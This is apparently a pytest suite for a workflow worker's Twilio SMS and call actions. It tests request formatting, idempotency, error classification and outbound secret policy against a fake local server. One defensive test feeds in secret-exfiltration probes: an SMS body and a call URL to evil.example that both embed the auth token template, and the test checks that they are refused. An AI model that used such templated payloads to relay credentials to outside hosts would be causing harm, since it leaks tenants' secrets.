"""The ``sms``, ``call``, ``sms_status`` and ``call_status`` actions against a loopback server speaking Twilio's API,
through the worker's policy-checked HTTP client; a run on the dev server retries a 429 with the same
idempotency key."""

from __future__ import annotations

import base64
import threading
from collections.abc import AsyncIterator, Iterator
from datetime import timedelta
from typing import Any

import httpx
import pytest
import pytest_asyncio
from temporalio.client import Client
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from activities.messaging import MessagingActions
from activities.outbound import OutboundPolicy, build_http_client
from activities.secrets import Secret, configure_secret_store
from interpreter.actions import ActionRequest, ActionResult
from interpreter.state import RunState
from tests.helpers.http_server import RecordingServer
from tests.helpers.twilio_server import ACCOUNT_SID, AUTH_TOKEN, FakeTwilio, form
from tests.workflows.support import definition, record, start, unique
from worker import build_worker

KEY = "intervention-F17/run-1/send_sms"


@pytest.fixture
def twilio() -> Iterator[FakeTwilio]:
    with RecordingServer() as server:
        yield FakeTwilio(server)


@pytest.fixture
def tenant_settings(twilio: FakeTwilio) -> Iterator[dict[str, dict[str, str | Secret]]]:
    tenants: dict[str, dict[str, str | Secret]] = {
        "default": {
            "TWILIO_BASE_URL": twilio.url,
            "TWILIO_ACCOUNT_SID": ACCOUNT_SID,
            "TWILIO_AUTH_TOKEN": Secret(AUTH_TOKEN, ("127.0.0.1",)),
            "TWILIO_FROM": "+13125550199",
        }
    }

    class _Store:
        def get(self, tenant: str, name: str) -> Secret | None:
            value = tenants.get(tenant, {}).get(name)
            return Secret(value) if isinstance(value, str) else value

    configure_secret_store(_Store())
    yield tenants
    configure_secret_store(None)


@pytest_asyncio.fixture
async def http_client() -> AsyncIterator[httpx.AsyncClient]:
    async with build_http_client(OutboundPolicy.loopback()) as client:
        yield client


async def run(
    client: httpx.AsyncClient, name: str, data: dict[str, Any], *, key: str = KEY, tenant: str = "default"
) -> ActionResult:
    actions = MessagingActions(client)
    activity = {
        "sms": actions.sms,
        "call": actions.call,
        "sms_status": actions.sms_status,
        "call_status": actions.call_status,
    }[name]
    request = ActionRequest(step_id=name, idempotency_key=key, input=data, tenant=tenant)
    return await ActivityEnvironment().run(activity, request)


async def run_error(
    client: httpx.AsyncClient, name: str, data: dict[str, Any], **kwargs: Any
) -> ApplicationError:
    with pytest.raises(ApplicationError) as info:
        await run(client, name, data, **kwargs)
    return info.value


async def test_sms_posts_twilios_request_and_returns_the_sid(
    twilio: FakeTwilio, tenant_settings: dict[str, Any], http_client: httpx.AsyncClient
) -> None:
    result = await run(http_client, "sms", {"to": "+13125550100", "body": "Hello from school"})

    (request,) = twilio.server.requests("POST")
    assert request.path == f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages.json"
    assert request.headers["content-type"] == "application/x-www-form-urlencoded"
    assert form(request) == {"To": "+13125550100", "From": "+13125550199", "Body": "Hello from school"}
    basic = base64.b64encode(f"{ACCOUNT_SID}:{AUTH_TOKEN}".encode()).decode()
    assert request.headers["authorization"] == f"Basic {basic}"
    assert request.headers["i-twilio-idempotency-token"] == KEY
    assert request.headers["idempotency-key"] == KEY
    sid = result.output["sid"]
    assert sid.startswith("SM")
    assert sid in twilio.messages
    assert result.output == {
        "sid": sid,
        "status": "queued",
        "to": "+13125550100",
        "from": "+13125550199",
        "error_code": None,
        "error_message": None,
    }

    status = await run(http_client, "sms_status", {"sid": sid}, key=KEY + "/status")
    assert status.output["status"] == "delivered"
    assert status.output["sid"] == sid
    (read,) = twilio.server.requests("GET")
    assert read.path == f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{sid}.json"


async def test_call_posts_twiml_or_a_url(
    twilio: FakeTwilio, tenant_settings: dict[str, Any], http_client: httpx.AsyncClient
) -> None:
    twiml = "<Response><Say>Please call the school back.</Say></Response>"
    result = await run(http_client, "call", {"to": "+13125550100", "from": "+13125550111", "twiml": twiml})
    assert result.output["sid"].startswith("CA")
    (request,) = twilio.server.requests("POST")
    assert request.path == f"/2010-04-01/Accounts/{ACCOUNT_SID}/Calls.json"
    assert form(request) == {"To": "+13125550100", "From": "+13125550111", "Twiml": twiml}

    await run(http_client, "call", {"to": "+13125550100", "url": "https://school.example/twiml/checkin.xml"})
    assert form(twilio.server.requests("POST")[-1])["Url"] == "https://school.example/twiml/checkin.xml"


async def test_call_status_reads_the_calls_record_with_its_duration(
    twilio: FakeTwilio, tenant_settings: dict[str, Any], http_client: httpx.AsyncClient
) -> None:
    placed = await run(http_client, "call", {"to": "+13125550100", "url": "https://school.example/t.xml"})
    sid = placed.output["sid"]
    assert placed.output["status"] == "queued"

    status = await run(http_client, "call_status", {"sid": sid}, key=KEY + "/call-status")
    assert status.output == {
        "sid": sid,
        "status": "completed",
        "to": "+13125550100",
        "from": "+13125550199",
        "duration": 42,
        "answered_by": "human",
    }
    (read,) = twilio.server.requests("GET")
    assert read.path == f"/2010-04-01/Accounts/{ACCOUNT_SID}/Calls/{sid}.json"
    basic = base64.b64encode(f"{ACCOUNT_SID}:{AUTH_TOKEN}".encode()).decode()
    assert read.headers["authorization"] == f"Basic {basic}"
    assert read.headers["i-twilio-idempotency-token"] == KEY + "/call-status"

    # A call still ringing has no duration yet (Twilio sends null).
    base = f"/2010-04-01/Accounts/{ACCOUNT_SID}"
    ringing = {"sid": "CAringing1", "status": "ringing", "to": "+13125550100", "duration": None}
    twilio.server.route("GET", f"{base}/Calls/CAringing1.json", [(200, {}, ringing)])
    status = await run(http_client, "call_status", {"sid": "CAringing1"})
    assert (status.output["status"], status.output["duration"]) == ("ringing", None)

    # Failures are classified as for the other messaging actions.
    not_found = {"code": 20404, "message": "The requested resource was not found", "status": 404}
    twilio.server.route("GET", f"{base}/Calls/CAdeadbeef.json", [(404, {}, not_found)])
    error = await run_error(http_client, "call_status", {"sid": "CAdeadbeef"})
    assert (error.type, error.non_retryable) == ("MessagingRejected", True)
    assert "GET Calls/CAdeadbeef" in error.message
    assert "code 20404" in error.message
    twilio.server.route("GET", f"{base}/Calls/CAbusy1.json", [(503, {"Retry-After": "3"}, {"code": 20503})])
    error = await run_error(http_client, "call_status", {"sid": "CAbusy1"})
    assert (error.type, error.non_retryable) == ("MessagingServerError", False)
    twilio.server.route("GET", f"{base}/Calls/CAodd1.json", [(200, {}, {"status": "completed"})])
    error = await run_error(http_client, "call_status", {"sid": "CAodd1"})
    assert (error.type, error.non_retryable) == ("MessagingBadResponse", True)
    error = await run_error(http_client, "call_status", {"sid": "CA 1"})
    assert error.type == "InvalidActionInput"
    assert "sid" in error.message
    error = await run_error(http_client, "call_status", {"sid": sid}, tenant="acme")
    assert (error.type, error.non_retryable) == ("ActionNotConfigured", True)


async def test_a_4xx_is_permanent_with_the_providers_code_and_message(
    twilio: FakeTwilio, tenant_settings: dict[str, Any], http_client: httpx.AsyncClient
) -> None:
    error = await run_error(http_client, "sms", {"to": "+15005550001", "body": "x"})
    assert (error.type, error.non_retryable) == ("MessagingRejected", True)
    assert "400 (code 21211): The 'To' number +15005550001 is not a valid phone number." in error.message
    assert error.details[0]["code"] == 21211
    assert error.details[0]["more_info"] == "https://www.twilio.com/docs/errors/21211"

    base = f"/2010-04-01/Accounts/{ACCOUNT_SID}"
    twilio.server.route(
        "GET",
        f"{base}/Messages/SMdeadbeef.json",
        [(404, {}, {"code": 20404, "message": "The requested resource was not found", "status": 404})],
    )
    error = await run_error(http_client, "sms_status", {"sid": "SMdeadbeef"})
    assert (error.type, error.non_retryable) == ("MessagingRejected", True)
    assert "code 20404" in error.message

    tenant_settings["default"]["TWILIO_AUTH_TOKEN"] = Secret("wrong-token-123456")
    error = await run_error(http_client, "sms", {"to": "+13125550100", "body": "x"})
    assert (error.type, error.non_retryable) == ("MessagingAuthenticationFailed", True)
    assert "wrong-token-123456" not in error.message + str(error.details)


async def test_429_and_5xx_are_retryable(
    twilio: FakeTwilio, tenant_settings: dict[str, Any], http_client: httpx.AsyncClient
) -> None:
    twilio.fail_next[:] = [
        (429, {"Retry-After": "7"}, {"code": 20429, "message": "Too Many Requests", "status": 429}),
        (503, {}, {"code": 20503, "message": "Service unavailable", "status": 503}),
    ]
    error = await run_error(http_client, "sms", {"to": "+13125550100", "body": "x"})
    assert (error.type, error.non_retryable) == ("MessagingRateLimited", False)
    assert error.next_retry_delay == timedelta(seconds=7)
    error = await run_error(http_client, "sms", {"to": "+13125550100", "body": "x"})
    assert (error.type, error.non_retryable) == ("MessagingServerError", False)
    assert "Service unavailable" in error.message


async def test_configuration_policy_and_token_hosts(
    twilio: FakeTwilio, tenant_settings: dict[str, Any], http_client: httpx.AsyncClient
) -> None:
    data = {"to": "+13125550100", "body": "x"}
    error = await run_error(http_client, "sms", data, tenant="acme")
    assert (error.type, error.non_retryable) == ("ActionNotConfigured", True)
    assert "TWILIO_ACCOUNT_SID of tenant 'acme'" in error.message

    async with build_http_client(OutboundPolicy()) as strict:
        error = await run_error(strict, "sms", data)
    assert (error.type, error.non_retryable) == ("OutboundRefused", True)

    tenant_settings["default"]["TWILIO_AUTH_TOKEN"] = Secret(AUTH_TOKEN, ("api.twilio.com",))
    error = await run_error(http_client, "sms", data)
    assert error.type == "SecretHostRefused"

    error = await run_error(http_client, "sms", {"to": "3125550100", "body": "x"})
    assert error.type == "InvalidActionInput"
    assert "to: must be a phone number in E.164 form" in error.message

    # The provider's token goes to the provider's host, never on to a message's recipient or a
    # call's script URL (an attacker's probe texted it, and handed it to a URL of theirs).
    tenant_settings["default"]["TWILIO_AUTH_TOKEN"] = Secret(AUTH_TOKEN, ("127.0.0.1",))
    for name, relayed in (
        ("sms", {"to": "+13125550100", "body": "token: ${secret:TWILIO_AUTH_TOKEN}"}),
        ("call", {"to": "+13125550100", "url": "https://evil.example/t?t=${secret:TWILIO_AUTH_TOKEN}"}),
    ):
        error = await run_error(http_client, name, relayed)
        assert (error.type, error.non_retryable) == ("SecretHostRefused", True), name
        assert "secret 'TWILIO_AUTH_TOKEN' may be sent only to 127.0.0.1" in error.message
    tenant_settings["default"]["PIN"] = Secret("4411")  # one that names no hosts goes anywhere
    await run(http_client, "sms", {"to": "+13125550100", "body": "pin ${secret:PIN}"})
    (sent,) = twilio.server.requests("POST")
    assert form(sent)["Body"] == "pin 4411"


# --------------------------------------------------------------------------- end to end (dev server)


@pytest_asyncio.fixture
async def worker_with_policy(client: Client, task_queue: str) -> AsyncIterator[None]:
    async with (
        build_http_client(OutboundPolicy.loopback()) as http_client,
        build_worker(client, task_queue, http_client, graceful_shutdown_timeout=timedelta(0)),
    ):
        yield


async def test_a_run_retries_a_429_with_the_same_idempotency_key_then_reads_the_status(
    client: Client,
    task_queue: str,
    worker_with_policy: None,
    twilio: FakeTwilio,
    tenant_settings: dict[str, Any],
) -> None:
    twilio.fail_next[:] = [(429, {"Retry-After": "0"}, {"code": 20429, "message": "Too Many Requests"})]
    retry = {"preset": "constant", "initial_interval": "100ms", "maximum_attempts": 3}
    doc = definition(
        unique("sms"),
        [
            {
                "id": "send_sms",
                "type": "task",
                "action": "sms",
                "input": {"to": "{{ input.phone }}", "body": "Hello {{ input.name }}, please call us back."},
                "retry": retry,
            },
            {
                "id": "delivery",
                "type": "task",
                "action": "sms_status",
                "input": {"sid": "{{ steps.send_sms.output.sid }}"},
                "retry": retry,
            },
        ],
    )
    handle = await start(client, task_queue, doc, {"phone": "+13125550100", "name": "Martinez family"})
    result = await handle.result()

    assert result.state == RunState.COMPLETED, result
    assert record(result, "send_sms").attempts == 2
    sends = twilio.server.requests("POST")
    assert [r.status for r in sends] == [429, 201]
    keys = {r.headers["i-twilio-idempotency-token"] for r in sends}
    assert keys == {f"{handle.id}/{handle.result_run_id}/send_sms"}, "one key, the step's, on both attempts"
    assert form(sends[1])["Body"] == "Hello Martinez family, please call us back."
    assert record(result, "delivery").output["status"] == "delivered"
    assert record(result, "delivery").output["sid"] == record(result, "send_sms").output["sid"]


async def test_a_run_places_a_call_and_branches_on_its_status(
    client: Client,
    task_queue: str,
    worker_with_policy: None,
    twilio: FakeTwilio,
    tenant_settings: dict[str, Any],
) -> None:
    doc = definition(
        unique("call"),
        [
            {
                "id": "place",
                "type": "task",
                "action": "call",
                "input": {"to": "{{ input.phone }}", "twiml": "<Response><Say>Hello</Say></Response>"},
            },
            {
                "id": "check",
                "type": "task",
                "action": "call_status",
                "input": {"sid": "{{ steps.place.output.sid }}"},
            },
            {
                "id": "text_if_unanswered",
                "type": "task",
                "action": "sms",
                "when": "steps.check.output.status != 'completed'",
                "input": {"to": "{{ input.phone }}", "body": "We tried to call you."},
            },
        ],
    )
    handle = await start(client, task_queue, doc, {"phone": "+13125550100"})
    result = await handle.result()

    assert result.state == RunState.COMPLETED, result
    assert record(result, "check").output["sid"] == record(result, "place").output["sid"]
    assert record(result, "check").output["status"] == "completed"
    assert record(result, "check").output["duration"] == 42
    assert [r.path.rsplit("/", 1)[-1] for r in twilio.server.requests("POST")] == ["Calls.json"]


async def test_a_provider_that_does_not_answer_in_time_or_answers_without_a_sid(
    twilio: FakeTwilio, tenant_settings: dict[str, Any], http_client: httpx.AsyncClient
) -> None:
    released = threading.Event()
    twilio.server.route(
        "POST",
        f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages.json",
        lambda request: (released.wait(30), (201, {}, {"status": "queued"}))[1],
    )
    try:
        error = await run_error(http_client, "sms", {"to": "+13125550100", "body": "x", "timeout_s": 0.5})
    finally:
        released.set()
    assert (error.type, error.non_retryable) == ("MessagingTimeout", False)
    # Answered, but not with a message record: not retried (the message may exist).
    error = await run_error(http_client, "sms", {"to": "+13125550100", "body": "x"})
    assert (error.type, error.non_retryable) == ("MessagingBadResponse", True)
    # Nor a record of other types, nor one nested past the parser (probes: each was a retryable
    # ValidationError or RecursionError, and the retry sent the message again).
    json_type = {"Content-Type": "application/json"}
    for answer in (b'{"sid": "SM1", "status": true}', b'{"sid": "SM1", "to": 5}', b"[" * 60_000):
        twilio.server.route(
            "POST", f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages.json", [(201, json_type, answer)]
        )
        error = await run_error(http_client, "sms", {"to": "+13125550100", "body": "x"})
        assert (error.type, error.non_retryable) == ("MessagingBadResponse", True), answer[:40]
    # A duration that is not JSON (Infinity was an OverflowError, retried) is no record; one that
    # is no number of seconds reads as unknown.
    calls = f"/2010-04-01/Accounts/{ACCOUNT_SID}/Calls/CA1.json"
    twilio.server.route("GET", calls, [(200, json_type, b'{"sid": "CA1", "duration": Infinity}')])
    error = await run_error(http_client, "call_status", {"sid": "CA1"}, key=KEY + "/call-status")
    assert (error.type, error.non_retryable) == ("MessagingBadResponse", True)
    twilio.server.route(
        "GET", calls, [(200, json_type, b'{"sid": "CA1", "status": "completed", "duration": "x"}')]
    )
    status = await run(http_client, "call_status", {"sid": "CA1"}, key=KEY + "/call-status")
    assert (status.output["status"], status.output["duration"]) == ("completed", None)
